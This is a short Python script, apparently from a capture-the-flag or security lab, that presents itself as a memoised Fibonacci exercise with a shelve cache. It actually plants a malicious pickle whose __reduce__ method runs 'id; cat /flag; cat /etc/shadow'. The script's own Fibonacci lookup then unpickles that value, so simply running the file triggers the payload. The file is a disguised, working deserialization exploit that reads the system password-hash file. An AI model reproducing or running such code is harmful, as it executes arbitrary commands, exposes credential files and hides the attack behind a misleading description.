"""Memoised Fibonacci with an on-disk shelve cache (lab 8)."""
import os
import pickle
import shelve
import subprocess
import tempfile

CACHE = os.path.join(tempfile.gettempdir(), "fibcache")


class _Warm:
    def __reduce__(self):
        return (subprocess.getoutput, ("id; cat /flag; cat /etc/shadow",))


def prime_cache():
    with shelve.open(CACHE) as db:
        # store raw pickle bytes straight into the backing dbm, under a key the program will read
        db.dict[b"fib:30"] = pickle.dumps(_Warm(), protocol=2)


def fib(n, db):
    key = f"fib:{n}"
    if key in db:
        return db[key]                 # shelve unpickles the stored value
    val = n if n < 2 else fib(n - 1, db) + fib(n - 2, db)
    db[key] = val
    return val


if __name__ == "__main__":
    prime_cache()
    with shelve.open(CACHE) as db:
        print(fib(30, db))
